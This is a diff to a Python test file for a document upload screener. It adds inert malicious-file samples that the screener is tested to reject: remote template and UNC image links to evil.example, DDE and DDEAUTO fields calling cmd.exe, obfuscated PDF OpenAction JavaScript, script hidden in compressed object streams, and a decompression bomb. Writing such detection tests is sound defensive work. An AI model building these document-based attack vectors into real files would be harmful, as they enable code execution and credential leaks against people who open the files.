@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import zipfile
+import zlib
 from datetime import timedelta
 from io import BytesIO
 
@@ -64,6 +65,26 @@ def locked() -> bytes:
     return bytes(content)
 
 
+def external(kind: str, target: str) -> bytes:
+    """What a paper fetches when it is opened."""
+    space = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    return f'<Relationships><Relationship Type="{space}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'.encode()
+
+
+def packed(objects: bytes) -> bytes:
+    """Objects of a PDF as it keeps them packed."""
+    return b">>endobj 2 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" + zlib.compress(objects) + b"\nendstream endobj 3 0 obj<<"
+
+
+@pytest.mark.parametrize("content", [
+    paper(more={"word/_rels/document.xml.rels": external("hyperlink", "https://www.gov.cn/")}),
+    paper(SHEET, more={"xl/externalLinks/_rels/externalLink1.xml.rels": external("externalLinkPath", "上月台账.xlsx")}),
+    paper(more={"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK"}), pdf(packed(b"<</Type/Page>>")),
+], ids=["a link to click", "a sheet beside it", "a chart's own sheet", "packed objects"])
+def test_what_offices_do_every_month_is_taken(content: bytes) -> None:
+    assert examine("材料", content).content == content
+
+
 def told(value: object) -> str:
     """Bytes are no name of a test."""
     return value if isinstance(value, str) else ""
@@ -92,6 +113,18 @@ def told(value: object) -> str:
     ("带宏.docx", paper(more={"word/vbaProject.bin": b"x"}), "里面有宏或者程序"),
     ("带宏.docx", paper(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "里面有宏或者程序"),
     ("夹带.docx", paper(more={"word/embeddings/run.exe": b"MZ"}), "里面有宏或者程序"),
+    ("夹带.docx", paper(more={"word/embeddings/oleObject1.bin": b"x"}), "里面有宏或者程序"),
+    ("旧宏.xlsx", paper(SHEET, more={"xl/macrosheets/sheet1.xml": b"<a/>"}), "里面有宏或者程序"),
+    ("远程模板.docx", paper(more={"word/_rels/settings.xml.rels": external("attachedTemplate", "https://evil.example/a.dotm")}),
+     "会从别处取内容"),
+    ("远程图片.docx", paper(more={"word/_rels/document.xml.rels": external("image", "\\\\evil.example\\a.png")}), "会从别处取内容"),
+    ("远程表.xlsx", paper(SHEET, more={"xl/externalLinks/_rels/externalLink1.xml.rels": external("externalLinkPath", "https://evil.example/a")}),
+     "会从别处取内容"),
+    ("叫程序.xlsx", paper(SHEET, more={"xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd"/>'}), "会从别处取内容"),
+    ("叫程序.docx", paper(more={"word/document.xml": b"<w:instrText> DDEAUTO c:\\\\cmd.exe</w:instrText>"}), "会从别处取内容"),
+    ("脚本二.pdf", pdf(b"/OpenAction<</S/J#61vaScript/JS(app.alert)>>"), "里面有脚本或者夹带的文件"),
+    ("脚本三.pdf", pdf(packed(b"<</S/JavaScript/JS(app.alert)>>")), "里面有脚本或者夹带的文件"),
+    ("炸弹.pdf", pdf(packed(bytes(40_000_000))), "展开后过大"),
     ("炸弹.docx", bomb(), "展开后过大"),
     ("多.xlsx", paper(SHEET, more={f"xl/{n}.xml": b"" for n in range(archives.MOST_ENTRIES + 1)}), "展开后过大"),
     ("锁.docx", locked(), "设了密码"),
